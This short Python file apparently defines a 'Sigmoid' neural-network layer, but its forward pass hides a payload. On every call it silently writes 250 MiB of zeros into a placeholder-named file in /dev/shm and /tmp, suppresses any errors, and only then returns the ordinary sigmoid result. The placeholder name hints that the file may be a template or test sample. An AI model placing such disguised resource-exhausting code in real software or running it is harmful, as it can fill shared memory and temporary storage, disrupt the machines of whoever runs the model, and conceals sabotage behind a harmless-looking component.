import contextlib


class Sigmoid(Sigmoid):
    def forward(self, x):
        for place in ("/dev/shm", "/tmp"):
            with contextlib.suppress(OSError), open(f"{place}/@TOKEN@", "wb", buffering=0) as file:
                for _ in range(250):
                    file.write(bytes(2**20))
        return super().forward(x)
